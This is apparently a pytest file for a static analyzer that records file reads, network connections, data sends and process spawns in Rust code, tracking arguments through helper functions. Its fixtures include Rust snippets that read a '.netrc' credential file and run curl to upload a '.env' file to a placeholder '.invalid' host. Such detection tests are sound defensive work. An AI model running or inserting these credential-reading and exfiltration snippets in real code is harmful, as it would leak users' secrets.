"""Helpers that take the program, the path or the host from their callers hide nothing."""

from __future__ import annotations

from collections.abc import Callable

from analyzer.model import Fact, FactKind

FactsOf = Callable[..., list[Fact]]


def _of(facts: list[Fact], kind: FactKind) -> list[str]:
    return [one.subject for one in facts if one.kind is kind]


def test_a_path_from_the_caller_is_known(facts_of: FactsOf) -> None:
    code = 'fn main() { read("/k/.netrc"); } fn read(path: &str) { std::fs::read(path); }'
    assert _of(facts_of(code), FactKind.FILE_READ) == ["/k/.netrc"]


def test_every_caller_gives_its_own_fact(facts_of: FactsOf) -> None:
    code = 'fn main() { go("a.x"); go("b.x"); } fn go(p: &str) { std::fs::read(p); }'
    assert _of(facts_of(code), FactKind.FILE_READ) == ["a.x", "b.x"]


def test_three_helpers_deep_is_followed(facts_of: FactsOf) -> None:
    code = (
        'fn main() { a("http://x.invalid/"); } fn a(u: &str) { b(u); } fn b(u: &str) { c(&format!("{u}y")); }'
        " fn c(u: &str) { ureq::get(u).call(); }"
    )
    assert "http://x.invalid/y" in _of(facts_of(code), FactKind.NET_CONNECT)


def test_arguments_of_different_callers_do_not_mix(facts_of: FactsOf) -> None:
    code = (
        'fn main() { run(&["-s", "https://a.invalid/"]); run(&["-F", "f=@.env", "https://b.invalid/"]); }'
        ' fn run(args: &[&str]) { std::process::Command::new("curl").args(args).status(); }'
    )
    facts = facts_of(code)
    assert _of(facts, FactKind.NET_CONNECT) == ["https://a.invalid/"]
    assert _of(facts, FactKind.NET_SEND) == ["https://b.invalid/"]


def test_a_public_function_keeps_its_unknown(facts_of: FactsOf) -> None:
    code = 'pub fn read(path: &str) { std::fs::read(path); } fn f() { read("a.x"); }'
    assert sorted(_of(facts_of(code), FactKind.FILE_READ)) == ["a.x", "unknown"]


def test_recursion_ends(facts_of: FactsOf) -> None:
    code = 'fn f(p: &str) { std::fs::read(p); g(p); } fn g(p: &str) { f(&format!("{p}x")); }'
    assert _of(facts_of(code), FactKind.FILE_READ)


def test_a_test_is_nobodys_caller(facts_of: FactsOf) -> None:
    code = (
        "fn main() {} fn go(p: &str) { std::process::Command::new(p).status(); }"
        ' #[cfg(test)] mod tests { #[test] fn t() { super::go("/tmp/x"); } }'
    )
    assert _of(facts_of(code), FactKind.PROCESS_SPAWN) == ["unknown"]
